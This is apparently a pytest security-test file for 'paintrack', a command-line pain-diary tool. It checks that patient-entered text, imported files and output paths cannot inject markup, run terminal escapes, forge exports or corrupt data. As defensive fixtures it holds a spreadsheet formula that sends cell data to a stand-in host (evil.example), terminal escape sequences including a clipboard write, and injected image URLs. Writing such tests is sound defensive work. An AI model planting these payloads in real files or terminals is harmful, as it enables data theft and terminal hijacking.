"""Issue 10, one test per numbered point: what a patient types, imports or points at can never
break, hijack or leak. (Point 2, FHIR ids, is also in test_export_fhir.py; point 13, the PDF,
belongs to issue 13.)"""

from __future__ import annotations

import contextlib
import json
import os
import re
import sqlite3
import stat
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from paintrack import store
from paintrack.export import importer, reading
from tests.conftest import Run, dump

RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _sql(path: Path, statement: str, *args: object) -> None:
    """Write as an old database (or another device) could hold it, past the CLI's checks."""
    conn = sqlite3.connect(path)
    with conn:
        conn.execute(statement, args)
    conn.close()


# 1 -------------------------------------------------------------------------------------------
def test_1_square_brackets_are_text_everywhere_never_markup(course: Run) -> None:
    course("med", "add", "ibu[/]", "--kind", "nsaid")
    course("log", "--pain", "5", "--note", "walked [/i] [link=http://evil.example]x[/link]")
    history = course("history").stdout
    assert "walked [/i]" in history and "[link=http://evil.example]x[/link]" in history
    assert "\x1b]8" not in history  # no terminal hyperlink
    assert "ibu[/]" in course("med", "list").stdout
    assert "back" in course("course", "show").stdout
    course("course", "end", "--outcome", "a[/]b [bold]")
    assert "a[/]b [bold]" in course("course", "show", "back").stdout


# 2 -------------------------------------------------------------------------------------------
def test_2_each_database_has_its_own_fhir_namespace_made_once(run: Run, tmp_path: Path) -> None:
    def namespace(path: Path) -> str:
        conn = store.open_db(path)
        try:
            return str(store.fhir_namespace(conn))
        finally:
            conn.close()

    a, b = tmp_path / "a.db", tmp_path / "b.db"
    assert namespace(a) != namespace(b)
    assert namespace(a) == namespace(a)  # made once, kept


# 3 -------------------------------------------------------------------------------------------
ESCAPES = (
    "\x1b]52;c;QQ==\x07\x1b]0;title\x07\x1b]8;;http://e.example\x1b\\l\x1b[1A\x1b[2K\u009b\r\b"
)


def test_3_terminal_escapes_in_stored_text_are_shown_never_run(
    course: Run, db_path: Path, tmp_path: Path
) -> None:
    course("log", "--pain", "5", "--med", "ibuprofen=1", "--activity", "walking=5")
    course("session", "--pain-before", "6", "--pain-after", "4")
    for table, col in (
        ("daily_logs", "note"),
        ("courses", "name"),
        ("courses", "condition"),
        ("medications", "name"),
        ("activities", "name"),
        ("sessions", "note"),
    ):
        _sql(db_path, f"UPDATE {table} SET {col} = ? || {col} WHERE id = 1", ESCAPES)
    assert "\\x1b]52" in course("history").stdout  # shown, visibly
    sheet = tmp_path / ("evil\x1b]0;x\x07.csv")
    sheet.write_text("date,pain\n2026-01-01,4\n")
    for args in (
        ("history",),
        ("history", "--csv"),
        ("history", "--json"),
        ("course", "show"),
        ("course", "list"),
        ("status",),
        ("review",),
        ("med", "list"),
        ("activity", "list"),
        ("chart", "function"),
        ("chart", "meds"),
        ("export", "-o", "-", "-f", "json"),
        ("import", str(sheet)),
        ("undo",),
        ("delete", "L1", "--yes"),
    ):
        result = course(*args)
        for stream in (result.stdout, result.stderr):
            assert not RAW_CONTROL.search(stream), (args, stream)


def test_3_an_escape_sequence_typed_in_a_name_is_refused_in_one_line(run: Run) -> None:
    result = run("course", "start", "x\x1b[2Jy", code=2)
    assert result.stderr.count("\n") == 1 and "\\x1b" in result.stderr
    assert "\x1b" not in result.stderr


def test_3_the_exact_csv_on_a_terminal_shows_controls_and_piped_stays_exact(
    tmp_path: Path,
) -> None:
    """`export -o -` on a terminal makes controls visible; redirected, the bytes are exact."""
    import pty

    db = tmp_path / "p.db"
    env = {**os.environ, "PAINTRACK_DB": str(db), "NO_COLOR": "1"}
    cli = [sys.executable, "-m", "paintrack"]
    subprocess.run(
        [*cli, "log", "--pain", "4", "--note", "n"], env=env, check=True, capture_output=True
    )
    _sql(db, "UPDATE daily_logs SET note = ?", "a\x1b]0;pwned\x07b")
    piped = subprocess.run([*cli, "export", "-o", "-", "-f", "csv"], env=env, capture_output=True)
    assert b"a\x1b]0;pwned\x07b" in piped.stdout
    main, child = pty.openpty()
    proc = subprocess.Popen(
        [*cli, "export", "-o", "-", "-f", "csv"], stdout=child, stderr=child, env=env
    )
    os.close(child)
    seen = b""
    with contextlib.suppress(OSError):
        while chunk := os.read(main, 65536):
            seen += chunk
    proc.wait(timeout=30)
    os.close(main)
    assert b"\x1b" not in seen and b"a\\x1b]0;pwned\\x07b" in seen


# 4 -------------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_4_spreadsheet_csvs_neutralise_formulas_and_the_exact_export_keeps_values(
    course: Run, tmp_path: Path
) -> None:
    course("log", "--pain", "5", "--note", FORMULA)
    course("log", "--pain", "4", "--note", "@cmd")
    import csv
    import io

    cells = [c for r in csv.reader(io.StringIO(course("history", "--csv").stdout)) for c in r]
    assert f"'{FORMULA}" in cells and "'@cmd" in cells and FORMULA not in cells
    course("export", "-o", str(tmp_path / "sheet.csv"), "--spreadsheet")
    sheet = [c for r in csv.reader((tmp_path / "sheet.csv").open()) for c in r]
    assert f"'{FORMULA}" in sheet and not any(c.startswith(("=", "+", "@")) for c in sheet)
    refused = course("--db", str(tmp_path / "b.db"), "import", str(tmp_path / "sheet.csv"), code=2)
    assert "--spreadsheet" in refused.stderr
    course("export", "-o", str(tmp_path / "exact.csv"))
    exact = [c for r in csv.reader((tmp_path / "exact.csv").open()) for c in r]
    assert FORMULA in exact  # exact values, for import
    course("--db", str(tmp_path / "c.db"), "import", str(tmp_path / "exact.csv"))
    notes = course("--db", str(tmp_path / "c.db"), "history", "--json").stdout
    assert FORMULA in [e["note"] for e in json.loads(notes)]


# 5 -------------------------------------------------------------------------------------------
def test_5_names_cannot_forge_markdown_structure_or_fetch_urls(course: Run, db_path: Path) -> None:
    forged = "x\n## Verdict: Worse\n- **Review date:** 1999-01-01"
    _sql(db_path, "UPDATE courses SET name = ?, practitioner = ?", forged, "<img src=http://e.x/a>")
    _sql(db_path, "UPDATE activities SET name = ?", "![x](http://e.x/y.png) [c](http://e.x)")
    course("log", "--pain", "5", "--activity", "![x](http://e.x/y.png) [c](http://e.x)=4")
    md = course("export", "-o", "-", "-f", "md").stdout
    lines = md.splitlines()
    assert sum(line.startswith(("## Verdict", "## Too early to judge")) for line in lines) == 1
    assert sum(line.startswith("- **Review date:**") for line in lines) == 1
    assert not re.search(r"(?<!\\)<|(?<!\\)\]\(|(?<!\\)!\[|https?:", md)
    html = course("export", "-o", "-", "-f", "html").stdout
    assert "<img" not in html and "&lt;img" in html  # the HTML summary escapes, as before


# 6 -------------------------------------------------------------------------------------------
def test_6_export_force_never_replaces_a_device_fifo_folder_or_dangling_link(
    course: Run, tmp_path: Path
) -> None:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    (tmp_path / "dangling.json").symlink_to(tmp_path / "nowhere")
    for target in ("/dev/null", str(fifo), str(tmp_path), str(tmp_path / "dangling.json")):
        result = course("export", "-o", target, "-f", "json", "--force", code=2)
        assert result.stderr.startswith("Error: --output must be")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode) and stat.S_ISFIFO(fifo.stat().st_mode)
    assert not (tmp_path / "nowhere").exists()
    real = tmp_path / "real.json"
    real.write_text("old")
    (tmp_path / "link.json").symlink_to(real)
    course("export", "-o", str(tmp_path / "link.json"), "--force")
    assert (tmp_path / "link.json").is_symlink() and json.loads(real.read_text())


# 7 -------------------------------------------------------------------------------------------
def test_7_a_failed_backup_leaves_no_file_and_an_empty_file_is_never_a_new_diary(
    course: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(self: object, target: object) -> None:
        raise sqlite3.OperationalError("database or disk is full")

    copy = tmp_path / "copy.db"
    with monkeypatch.context() as m:
        m.setattr(store.Db, "backup", full)
        result = course("backup", str(copy), code=1)
    assert "is full" in result.stderr and not copy.exists()
    copy.touch()
    refused = course("--db", str(copy), "status", code=2)
    assert "empty file (0 bytes)" in refused.stderr and copy.stat().st_size == 0


# 8 -------------------------------------------------------------------------------------------
@contextlib.contextmanager
def _page_limit(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """SQLite's writes fail as on a full disk: no page may be added to the file."""
    real = store.db._connect

    def limited(path: Path, read_only: bool) -> store.Db:
        conn = real(path, read_only)
        pages = conn.execute("PRAGMA page_count").fetchone()[0]
        conn.execute(f"PRAGMA max_page_count = {pages}")
        return conn

    with monkeypatch.context() as m:  # only this patch is undone afterwards
        m.setattr(store.db, "_connect", limited)
        yield


def test_8_a_write_on_a_full_disk_says_so_and_writes_nothing(
    course: Run, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = "n" * 2000
    with _page_limit(monkeypatch):
        for _ in range(5):  # the first may fit in a free page; later ones cannot
            before = dump(db_path)
            result = course("log", "--pain", "5", "--note", big, code=None)
            if result.exit_code:
                break
        assert result.exit_code == 1, result.stderr
        assert "is full" in result.stderr and "rollback" not in result.stderr
        assert result.stderr.count("\n") == 1
    assert dump(db_path) == before  # nothing written, nothing lost
    course("status")
    assert "ok    integrity" in course("doctor", code=None).stdout


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A 1 MiB tmpfs, for the real thing (root only; skipped where mounting is not allowed)."""
    where = tmp_path / "small"
    where.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1M", "tmpfs", str(where)])
    if done.returncode:
        pytest.skip("this machine does not allow mounting a tmpfs (the page-limit test covers it)")
    try:
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=False)


def test_8_on_a_real_full_disk_reads_work_and_doctor_says_disk_full_not_corruption(
    run: Run, full_disk: Path
) -> None:
    db = str(full_disk / "p.db")
    run("--db", db, "log", "--pain", "5")
    before = dump(Path(db))
    filler = full_disk / "filler"
    with contextlib.suppress(OSError), filler.open("wb") as f:
        while True:
            f.write(b"\0" * 65536)
    result = run("--db", db, "log", "--pain", "4", code=1)
    assert "is full" in result.stderr and "rollback" not in result.stderr
    assert "L1" in run("--db", db, "history").stdout
    doctor = run("--db", db, "doctor", code=1).stdout
    assert "FAIL  disk space" in doctor and "FAIL  integrity" not in doctor
    for args in (("export", "-o", str(full_disk / "x.json")), ("backup", str(full_disk / "b.db"))):
        assert "is full" in run("--db", db, *args, code=1).stderr
    left = {p.name for p in full_disk.iterdir()} - {"p.db-wal", "p.db-shm"}  # SQLite's own
    assert left == {"filler", "p.db"}  # no partial export or backup
    filler.unlink()
    assert dump(Path(db)) == before


# 9 -------------------------------------------------------------------------------------------
def test_9_import_refuses_devices_fifos_folders_and_files_over_the_limit(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "z.csv").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "fifo.csv")
    for name in ("z.csv", "fifo.csv", "."):
        result = run("import", str(tmp_path / name), code=2)
        assert "a regular file" in result.stderr and result.stderr.count("\n") == 1
    monkeypatch.setattr(reading, "MAX_FILE_BYTES", 100)
    (tmp_path / "big.csv").write_text("date,pain\n" + "2026-01-01,5\n" * 20)
    assert "at most 0 MB" in run("import", str(tmp_path / "big.csv"), code=2).stderr


def test_9_a_plain_csv_streams_and_a_bad_last_row_writes_nothing(
    run: Run, tmp_path: Path, db_path: Path
) -> None:
    sheet = tmp_path / "s.csv"
    sheet.write_text("date,pain\n" + "2026-01-01,5\n" * 500 + "2026-01-02,11\n")
    parsed = importer.read(sheet, date(2026, 3, 2))
    assert parsed.diary.daily_logs == () and not isinstance(parsed.logs, list | tuple)
    run("log", "--pain", "3")
    before = dump(db_path)
    result = run("import", str(sheet), code=2)
    assert "line 502: pain must be a whole number from 0 to 10" in result.stderr
    assert dump(db_path) == before


# 10 ------------------------------------------------------------------------------------------
def test_10_a_read_only_database_reads_silently_and_refuses_to_write(
    course: Run, db_path: Path, tmp_path: Path
) -> None:
    course("log", "--pain", "5")
    db_path.chmod(0o400)
    try:
        for args in (
            ("status",),
            ("history",),
            ("export", "-o", str(tmp_path / "x.json")),
            ("backup", str(tmp_path / "b.db")),
        ):
            result = course(*args)
            assert "read-only" not in result.stderr, args
        refused = course("log", "--pain", "4", code=1)
        assert "read-only" in refused.stderr and "chmod u+w" in refused.stderr
        assert "read-only" in course("undo", code=1).stderr
        doctor = course("doctor", code=1).stdout
        assert "FAIL  write access" in doctor and "ok    integrity" in doctor
        assert not list(db_path.parent.glob("*-wal")) + list(db_path.parent.glob("*-shm"))
    finally:
        db_path.chmod(0o600)
    course("log", "--pain", "4")  # writable again


# 11 ------------------------------------------------------------------------------------------
def test_11_every_folder_paintrack_creates_is_0700_whatever_the_umask(
    run: Run, tmp_path: Path
) -> None:
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o755)
    mine.chmod(0o755)
    db = mine / "a" / "b" / "p.db"
    old = os.umask(0)
    try:
        run("--db", str(db), "log", "--pain", "4")
    finally:
        os.umask(old)
    assert [oct(p.stat().st_mode & 0o777) for p in (db.parent.parent, db.parent)] == ["0o700"] * 2
    assert oct(mine.stat().st_mode & 0o777) == "0o755"  # an existing folder is never changed
    assert oct(db.stat().st_mode & 0o777) == "0o600"


# 12 ------------------------------------------------------------------------------------------
def test_12_hostile_files_and_paths_are_one_line_errors_never_internal(
    course: Run, tmp_path: Path
) -> None:
    (tmp_path / "dangling.db").symlink_to(tmp_path / "nowhere.db")
    cell = tmp_path / "cell.csv"
    cell.write_text("date,pain,note\n2026-01-01,5," + "x" * 200_000 + "\n")
    deep = tmp_path / "deep.json"
    deep.write_text('{"a": ' + "[" * 100_000)
    twice = tmp_path / "twice.csv"
    twice.write_text("date,pain,pain\n2026-01-01,5,6\n")
    course("export", "-o", str(tmp_path / "all.json"))
    doc = json.loads((tmp_path / "all.json").read_text())
    doc["courses"][0]["id"] = 2**70
    (tmp_path / "huge.json").write_text(json.dumps(doc))
    expected = {
        ("backup", str(tmp_path / "dangling.db")): "does not exist yet",
        ("import", str(cell)): "line 2: cell must be at most 131,072 characters",
        ("import", str(deep)): "line 1: the_file must be a paintrack export",
        ("import", str(twice)): "line 1: pain must be the name of one column only",
        ("import", str(tmp_path / "huge.json")): "id must be a whole number from 1 to",
        ("edit", "L" + "9" * 30): "ID must be an entry id",
        ("log", "--pain", "9" * 5000): "--pain must be a whole number",
    }
    for args, words in expected.items():
        result = course(*args, code=2)
        assert words in result.stderr and "Internal error" not in result.stderr, args
        assert len(result.stderr) < 2000, args  # a huge value is cut short, not echoed
    assert not (tmp_path / "nowhere.db").exists()


def test_12_output_to_a_full_device_is_one_line(tmp_path: Path) -> None:
    env = {**os.environ, "PAINTRACK_DB": str(tmp_path / "p.db")}
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "paintrack", "paths"],
            stdout=full,
            stderr=subprocess.PIPE,
            env=env,
        )
    assert done.returncode == 1
    assert done.stderr.decode() == "Error: cannot write the output: No space left on device.\n"


def test_12_doctor_never_advises_changing_a_shared_system_folder(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("COLUMNS", raising=False)  # piped, unfolded: a long temp path stays whole
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)  # like /tmp: sticky, writable by all
    db = shared / "p.db"
    run("--db", str(db), "log", "--pain", "4")
    line = next(
        x for x in run("--db", str(db), "doctor", code=1).stdout.splitlines() if "folder" in x
    )
    assert "chmod" not in line and "a folder of your own" in line
